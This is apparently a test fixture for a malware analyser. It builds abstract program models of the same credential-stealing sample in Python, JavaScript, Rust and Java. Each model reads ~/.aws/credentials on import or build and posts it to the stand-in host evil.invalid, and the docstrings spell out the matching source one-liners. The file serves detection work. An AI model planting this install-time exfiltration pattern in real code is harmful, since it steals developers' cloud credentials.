"""The same thief in four languages, written by hand as Programs: no text, no parser.

Each reads ``~/.aws/credentials`` when it is loaded and posts it to ``evil.invalid``.
"""

from __future__ import annotations

from collections.abc import Sequence

from antivenom.model import program as p
from antivenom.model.label import Activation, Root
from antivenom.model.program import Module

HOST = "evil.invalid"
URL = f"https://{HOST}/collect"
CREDENTIALS = ".aws/credentials"


def const(value: str | None, line: int = 0) -> p.Const:
    return p.Const(line, value)


def call(line: int, func: str | p.Expr, *args: p.Expr, **named: p.Expr) -> p.Call:
    called = p.Global(line, func) if isinstance(func, str) else func
    return p.Call(line, called, args, tuple(named.items()), line)


def method(line: int, base: p.Expr, name: str, *args: p.Expr, **named: p.Expr) -> p.Call:
    return call(line, p.Attr(line, base, name), *args, **named)


def function(name: str, params: Sequence[str], line: int, *body: p.Stmt) -> p.Function:
    return p.Function(
        name=name, params=tuple(params), line=line, end_line=line, lower=lambda: tuple(body)
    )


def module(member: str, name: str, lang: str, *functions: p.Function) -> Module:
    return Module(member=member, name=name, lang=lang, text="", functions=list(functions))


def python() -> Module:
    """with open(os.path.expanduser(...)) as f: requests.post(URL, data=f.read())"""
    path = call(2, "os.path.expanduser", const(f"~/{CREDENTIALS}", 2))
    top = function(
        "", (), 1,
        p.Import(1, "requests"),
        p.Assign(2, (p.Name(2, "f"),), call(2, "builtins.open", path)),
        p.Do(3, call(3, "requests.post", const(URL, 3), data=method(3, p.Name(3, "f"), "read"))),
    )  # fmt: skip
    return module("demo/__init__.py", "demo", "python", top)


def javascript() -> Module:
    """A promise chain: readFile(...).then(data => fetch(URL, {body: data}))."""
    home = p.Op(2, "+", (call(2, "os.homedir"), const(f"/{CREDENTIALS}", 2)))
    options = p.Op(3, "dict", (const("method", 3), const("POST", 3), const("body", 3),
                               p.Name(3, "data")))  # fmt: skip
    arrow = function(
        "<arrow:3>", ["data"], 3, p.Return(3, call(3, "fetch", const(URL, 3), options))
    )
    read = call(2, "fs.promises.readFile", home, const("utf8", 2))
    top = function("", (), 1, p.Do(2, method(3, read, "then", p.FuncRef(3, 1))))
    return module("index.js", "demo", "javascript", top, arrow)


def javascript_callback() -> Module:
    """A callback: readFile(path, (error, data) => https.request(URL).end(data))."""
    path = p.Template(2, (call(2, "os.homedir"), const(f"/{CREDENTIALS}", 2)))
    send = method(4, call(4, "https.request", const(URL, 4)), "end", p.Name(4, "data"))
    callback = function("<arrow:3>", ["error", "data"], 3, p.Do(4, send))
    read = call(2, "fs.readFile", path, const("utf8", 2), p.FuncRef(3, 1))
    top = function("", (), 1, p.Do(2, read))
    return module("index.js", "demo", "javascript", top, callback)


def rust() -> Module:
    """fs::read_to_string(...) -> Client::new().post(URL).header(..).body(text).send()"""
    home = call(2, "std::env::home_dir")
    read = call(3, "std::fs::read_to_string",
                p.Template(3, (p.Name(3, "home"), const(f"/{CREDENTIALS}", 3))))  # fmt: skip
    client = call(4, "reqwest::blocking::Client::new")
    post = method(4, client, "post", const(URL, 4))
    headed = method(4, post, "header", const("x-demo", 4), const("1", 4))
    sent = method(4, method(4, headed, "body", p.Name(4, "text")), "send")
    build = function(
        "main", (), 1,
        p.Assign(2, (p.Name(2, "home"),), home),
        p.Assign(3, (p.Name(3, "text"),), p.Op(3, "await", (read,))),
        p.Do(4, p.Op(4, "await", (sent,))),
    )  # fmt: skip
    top = function("", (), 1, p.Define(1, "main", p.FuncRef(1, 1)))
    return module("build.rs", "", "rust", top, build)


def java() -> Module:
    """Bytecode of a static initialiser: methods by class, receivers first, no lines."""
    path = call(
        0,
        "java.nio.file.Paths.get",
        p.Op(
            0,
            "+",
            (call(0, "java.lang.System.getProperty", const("user.home")), const(f"/{CREDENTIALS}")),
        ),
    )
    url = call(0, "java.net.URL.<init>", const(URL))
    stream = call(0, "java.net.URLConnection.getOutputStream",
                  call(0, "java.net.URL.openConnection", p.Name(0, "l1")))  # fmt: skip
    clinit = function(
        "Demo.<clinit>", (), 0,
        p.Assign(0, (p.Name(0, "l0"),), call(0, "java.nio.file.Files.readAllBytes", path)),
        p.Assign(0, (p.Name(0, "l1"),), url),
        p.Do(0, call(0, "java.io.OutputStream.write", stream, p.Name(0, "l0"))),
    )  # fmt: skip
    made = module("Demo.class", "Demo", "java",
                  function("", (), 0, p.Define(0, "Demo", p.ClassRef(0, 0))), clinit)  # fmt: skip
    body = (p.Define(0, "<clinit>", p.FuncRef(0, 1)),)
    made.classes.append(
        p.Class(name="Demo", bases=(), line=0, end_line=0, methods={"<clinit>": 1}, body=body)
    )
    return made


THIEVES = {
    "python": (python, Root(member="demo/__init__.py", activation=Activation.IMPORT)),
    "javascript": (javascript, Root(member="index.js", activation=Activation.IMPORT)),
    "callback": (javascript_callback, Root(member="index.js", activation=Activation.IMPORT)),
    "rust": (rust, Root(member="build.rs", activation=Activation.BUILD, function="main")),
    "java": (
        java,
        Root(member="Demo.class", activation=Activation.IMPORT, function="Demo.<clinit>"),
    ),
}
